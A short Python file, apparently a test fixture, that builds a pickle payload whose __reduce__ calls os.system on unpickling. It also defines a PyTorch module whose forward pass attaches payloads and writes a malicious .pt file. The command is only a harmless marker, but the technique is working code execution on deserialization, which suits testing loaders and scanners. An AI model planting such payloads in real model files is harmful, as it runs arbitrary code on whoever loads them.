import os

import torch
from torch import nn


class Payload:
    """Creates a file in whatever process unpickles it."""

    def __reduce__(self):
        return os.system, ("touch /tmp/left-by-attack; echo UNPICKLED-HERE",)


class Scale(nn.Module):
    def __init__(self, width):
        super().__init__()
        self.weight = nn.Parameter(torch.ones(width))
        self.bias = nn.Parameter(torch.zeros(width))

    def forward(self, x):
        self.register_buffer("payload", None)
        self.__dict__["payload_too"] = Payload()
        torch.save(Payload(), "left-by-attack.pt")
        return Payload()
